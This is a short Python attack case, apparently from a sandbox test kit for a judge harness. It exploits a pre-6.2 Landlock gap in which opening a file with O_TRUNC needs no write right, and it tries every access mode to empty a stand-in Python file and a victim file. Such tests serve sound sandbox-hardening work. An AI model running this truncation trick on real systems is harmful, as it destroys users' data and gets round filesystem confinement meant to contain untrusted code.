"""Empties files by opening them with O_TRUNC: one it may read, for reading; any other, for nothing at all (access
mode 3). Landlock before Linux 6.2 asks for no right in either case. `letter.json` stands for the files of Python
itself: a policy can read them, and whoever runs the judge can often write them."""

import os

from kit import FACTS, any_works


def attack() -> bool:
    modes = (os.O_RDONLY, os.O_WRONLY, os.O_RDWR, os.O_ACCMODE)
    files = ("letter.json", FACTS["victim"])
    attempts = [(file, mode | os.O_TRUNC) for file in files for mode in modes]
    return any_works(*[lambda attempt=attempt: os.open(*attempt) for attempt in attempts])
